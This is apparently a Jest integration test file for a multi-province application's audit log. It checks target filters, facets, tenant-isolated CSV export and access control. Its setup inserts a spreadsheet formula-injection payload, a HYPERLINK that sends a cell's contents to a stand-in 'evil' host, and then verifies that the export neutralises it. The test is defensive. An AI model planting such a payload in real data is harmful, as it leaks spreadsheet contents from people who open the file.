import { schemaNameFor } from '../../src/tenancy/slug';
import { Harness } from '../support/harness';

type Province = Awaited<ReturnType<Harness['provinceWithAdmin']>>;

/** Issue 14: the audit log's target filter and its CSV export, each province its own. */
describe('audit log: target filter and CSV export', () => {
  let h: Harness;
  let kp: Province;
  let gb: Province;
  let kpDepartment: string;

  beforeAll(async () => {
    h = await Harness.start();
    [kp, gb] = await Promise.all([h.provinceWithAdmin('aex-kp'), h.provinceWithAdmin('aex-gb')]);
    const kpDep = await h
      .on(kp.host)
      .post('/api/departments', kp.adminToken)
      .send({ code: 'PND', name: 'Planning' })
      .expect(201);
    kpDepartment = kpDep.body.id;
    await h
      .on(kp.host)
      .put('/api/master-data/districts/peshawar', kp.adminToken)
      .send({ nameEn: 'Peshawar', nameUr: 'پشاور' })
      .expect(200);
    await h
      .on(gb.host)
      .post('/api/departments', gb.adminToken)
      .send({ code: 'GBONLY', name: 'Gilgit only' })
      .expect(201);
    await h
      .on(gb.host)
      .put('/api/master-data/districts/gilgit-only', gb.adminToken)
      .send({ nameEn: 'Gilgit', nameUr: 'گلگت' })
      .expect(200);
    // Text chosen by whoever acted (here a target id) lands in the file: a formula must stay text.
    await h.dataSource.query(
      `INSERT INTO ${schemaNameFor(gb.slug)}.audit_log (actor_type, action, target_type, target_id)
       VALUES ('system', 'test.formula', 'master-data', $1)`,
      ['=HYPERLINK("http://evil/?"&A1,"Open")'],
    );
  });

  afterAll(() => h.close());

  it('filters by target kind and target id', async () => {
    const byType = (await h.on(kp.host).get('/api/audit?targetType=department', kp.adminToken).expect(200)).body;
    expect(byType.total).toBe(1);
    expect(byType.items[0]).toMatchObject({
      action: 'department.created',
      targetType: 'department',
      targetId: kpDepartment,
    });
    const byId = (await h.on(kp.host).get('/api/audit?targetId=districts%2Fpeshawar', kp.adminToken).expect(200)).body;
    expect(byId.items.map((e: { action: string }) => e.action)).toEqual(['master-data.created']);
    const both = '/api/audit?targetType=department&targetId=districts%2Fpeshawar';
    const none = (await h.on(kp.host).get(both, kp.adminToken).expect(200)).body;
    expect(none.total).toBe(0);
  });

  it('offers the actions and target kinds the log holds', async () => {
    const facets = (await h.on(kp.host).get('/api/audit/facets', kp.adminToken).expect(200)).body;
    expect(facets.actions).toEqual(expect.arrayContaining(['auth.login', 'department.created', 'master-data.created']));
    expect(facets.targetTypes).toEqual(['department', 'master-data', 'user']);
  });

  it("exports the filtered log as CSV: the province's own rows only, newest first, named as a download", async () => {
    const res = await h.on(kp.host).get('/api/audit/export', kp.adminToken).buffer(true).expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    const fileName = new RegExp(`^attachment; filename="audit-log-${kp.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"`);
    expect(res.headers['content-disposition']).toMatch(fileName);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.headers['x-export-truncated']).toBe('false');
    const text: string = res.text;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trimEnd().split('\r\n');
    expect(lines[0]).toBe('at,actorType,actorEmail,actorId,action,targetType,targetId,ip,requestId,details');
    expect(lines.slice(1).map((l) => l.split(',')[4])).toEqual([
      'master-data.created',
      'department.created',
      'auth.login',
    ]);
    expect(res.headers['x-total-count']).toBe('3');
    expect(text).toContain(kp.adminEmail);
    expect(text).not.toContain(gb.adminEmail);
    expect(text).not.toContain('GBONLY');
    expect(text).not.toContain('gilgit-only');

    const filtered = await h
      .on(kp.host)
      .get('/api/audit/export?action=department.created', kp.adminToken)
      .buffer(true)
      .expect(200);
    const rows = filtered.text.slice(1).trimEnd().split('\r\n');
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain(kpDepartment);

    // Each export is in the log itself, with its filters.
    const exports = (await h.on(kp.host).get('/api/audit?action=audit.exported', kp.adminToken).expect(200)).body.items;
    expect(exports.map((e: { details: unknown }) => e.details)).toEqual([
      { filters: { action: 'department.created' }, rows: 1 },
      { filters: {}, rows: 3 },
    ]);
  });

  it("keeps GB's export to GB, with formula-like text neutralised", async () => {
    const res = await h
      .on(gb.host)
      .get('/api/audit/export?targetType=master-data', gb.adminToken)
      .buffer(true)
      .expect(200);
    expect(res.text).toContain('gilgit-only');
    expect(res.text).not.toContain(kp.adminEmail);
    expect(res.text).not.toContain('peshawar');
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""Open"")"`);
    for (const line of res.text.slice(1).trimEnd().split('\r\n')) expect(line).not.toMatch(/(^|,)"?=/);
  });

  it('names a bad filter in a 400, and refuses another province or a non-administrator', async () => {
    const query = 'from=yesterday&actorId=42&targetType=User!&page=2';
    const bad = await h.on(kp.host).get(`/api/audit/export?${query}`, kp.adminToken).expect(400);
    expect(Object.keys(bad.body.fields).sort()).toEqual(['actorId', 'from', 'page', 'targetType']);
    expect(bad.body.fields.actorId[0]).toMatch(/actorId/);
    // Dates JavaScript reads but Postgres cannot hold are a named 400, not a 500 (list and export).
    const far = 'from=-100000-01-01T00:00:00Z&to=%2B200000-01-01T00:00:00Z';
    for (const path of ['/api/audit', '/api/audit/export']) {
      const range = await h.on(kp.host).get(`${path}?${far}`, kp.adminToken).expect(400);
      expect(Object.keys(range.body.fields).sort()).toEqual(['from', 'to']);
    }
    await h.on(gb.host).get('/api/audit/export', kp.adminToken).expect(401);
    const viewer = await h.userWithRole(kp, 'viewer');
    await h.on(kp.host).get('/api/audit/export', viewer.token).expect(403);
    await h.on(kp.host).get('/api/audit/facets', viewer.token).expect(403);
  });
});
